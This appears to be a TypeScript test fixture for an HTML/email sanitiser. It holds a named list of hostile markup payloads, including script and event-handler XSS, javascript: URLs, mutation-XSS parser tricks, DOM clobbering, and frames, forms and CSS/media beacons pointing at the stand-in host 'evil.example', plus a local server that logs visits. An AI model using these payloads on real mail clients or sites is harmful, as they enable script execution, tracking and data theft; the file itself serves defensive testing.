/** Mails that mean harm, and a server that notices who comes. */
import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'

/** Stands in the templates for a server of somebody else's, which counts who comes. */
export const away = 'http://evil.example'
export const harm = "parent.document.title='taken';top.taken=1;parent.taken=1"
export const hostile: Record<string, string> = {
  script: `<p>shown</p><script>${harm}</script><script src="${away}/a.js"></script><script type="module">${harm}</script>`,
  handlers: `<p onclick="${harm}">shown</p><img src="x" onerror="${harm}"><svg onload="${harm}"></svg><body onload="${harm}" onpageshow="${harm}">`,
  events: `<p>shown</p><style>@keyframes k{}p{animation:k 1s}</style><details open ontoggle="${harm}"></details><input autofocus onfocus="${harm}"><marquee onstart="${harm}">m</marquee><video><source onerror="${harm}" src="x"></video><p style="animation:k 1s" onanimationstart="${harm}">a</p>`,
  base: `<base href="${away}/"><p>shown</p><img src="a.png"><link rel="stylesheet" href="a.css"><a href="l">l</a>`,
  refresh: `<meta http-equiv="refresh" content="0;url=${away}/r"><p>shown</p><meta http-equiv="refresh" content="0;url=javascript:${harm}">`,
  policy: `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'"><p>shown</p><img src="${away}/p.png">`,
  form: `<p>shown</p><form action="${away}/f" method="post"><input name="q" autofocus><button formaction="${away}/g">Go</button></form>`,
  frame: `<p>shown</p><iframe src="${away}/i"></iframe><object data="${away}/o"></object><embed src="${away}/e"><applet code="${away}/c"></applet><portal src="${away}/p"></portal>`,
  frameset: `<p>shown</p></body><frameset onload="${harm}"><frame src="${away}/f"></frameset>`,
  inFrames: `<p>shown</p><iframe srcdoc="<script>${harm}</script><img src=${away}/i>"></iframe><object type="text/html" data="data:text/html,<script>${harm}</script>"></object><embed src="javascript:${harm}"><iframe src="javascript:${harm}"></iframe>`,
  css: `<style>@import url(${away}/i.css);@import "${away}/j.css";p{background:url(${away}/b.png)}@font-face{font-family:x;src:url(${away}/f)}p{font-family:x}</style><p>shown</p>`,
  inlineCss: `<p style="background:url(${away}/b);list-style:url(${away}/l);cursor:url(${away}/c),auto;border-image:url(${away}/d) 1;mask:url(${away}/m)">shown</p><table background="${away}/t"><tr><td background="${away}/u">t</table><body background="${away}/v">`,
  closing: `<p>shown</p></iframe></div></body></html><script>${harm}</script><h1 id="out">out</h1>`,
  srcdoc: `<p>shown</p>" onload="${harm}" x="&quot; onload=&quot;${harm}`,
  prefetch: `<link rel="prefetch" href="${away}/p"><link rel="preconnect" href="${away}"><link rel="dns-prefetch" href="${away}"><link rel="preload" as="image" href="${away}/q"><link rel="modulepreload" href="${away}/m"><link rel="icon" href="${away}/n"><p>shown</p>`,
  media: `<p>shown</p><video src="${away}/v" poster="${away}/w" autoplay></video><audio src="${away}/a" autoplay></audio><video><source src="${away}/s"><track default src="${away}/t"></video><img srcset="${away}/1 1x, ${away}/2 2x"><picture><source srcset="${away}/3"><img src="${away}/4"></picture><input type="image" src="${away}/5">`,
  svg: `<p>shown</p><svg><script>${harm}</script><image href="${away}/i"/><use href="${away}/u.svg#a"/><filter id="f"><feImage href="${away}/f"/></filter><rect width="9" height="9" filter="url(#f)"/><foreignObject><iframe src="${away}/o"></iframe></foreignObject><style>@import url(${away}/s.css);</style></svg>`,
  animate: `<p>shown</p><svg><a id="n"><text y="9">t</text></a><animate href="#n" attributeName="href" to="javascript:${harm}" begin="0s" fill="freeze"/><image><set attributeName="href" to="${away}/s"/></image><animate attributeName="x" onbegin="${harm}" dur="1s"/></svg>`,
  mutation: `<p>shown</p><noscript><p title="</noscript><img src=x onerror=${harm}>"></noscript><svg></p><style><a id="</style><img src=1 onerror=${harm}>"></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${harm}&gt;"></table></math>`,
  unknownNames:
    '<p>shown</p><p "=1 <b=\'x\' 1=2 :=3 @click="x" [y]="z" xlink:href="q">odd</p><x:y><p:q/></x:y><o:p></o:p>',
  clobbering: `<p>shown</p><form onsubmit="${harm}"><input name="attributes"><input name="parentNode"><input name="firstChild"><input name="nextSibling"><input name="nodeName"><input name="nodeType"><input name="remove"><input name="localName"><input name="childNodes"><input id="isEqualNode"><input id="replaceWith"></form><img name="documentElement"><img name="body"><img name="createTreeWalker"><img name="addEventListener"><form name="querySelector"></form>`,
  templates: `<p>shown</p><div><template shadowrootmode="open"><img src="${away}/i"><script>${harm}</script></template></div><template><iframe src="${away}/t"></iframe></template>`,
  ours: '<p>shown</p><img src="/stolen"><iframe src="/stolen"></iframe><link rel="stylesheet" href="/stolen"><form action="/stolen"></form><video src="/stolen"></video><style>@import "/stolen";</style>',
  unclosed: '<table><tr><td><p>shown<div><b><i>',
  surrogates: '<p>shown</p>😀\ud83d and \udc00 <b title="\ud83d">x</b>',
  rtl: '<p>shown</p><p dir="rtl">שלום \u202e ${code} \u202c مرحبا</p>',
}

/** A server that remembers every connection and request. */
export async function startElsewhere() {
  const visits: string[] = []
  const server = createServer((request, response) => {
    visits.push(request.url ?? '')
    response.end()
  })
  server.on('connection', () => visits.push('connection'))
  await once(server.listen(0, '127.0.0.1'), 'listening')
  const { port } = server.address() as AddressInfo
  return { url: `http://127.0.0.1:${port}`, visits, close: () => server.close() }
}
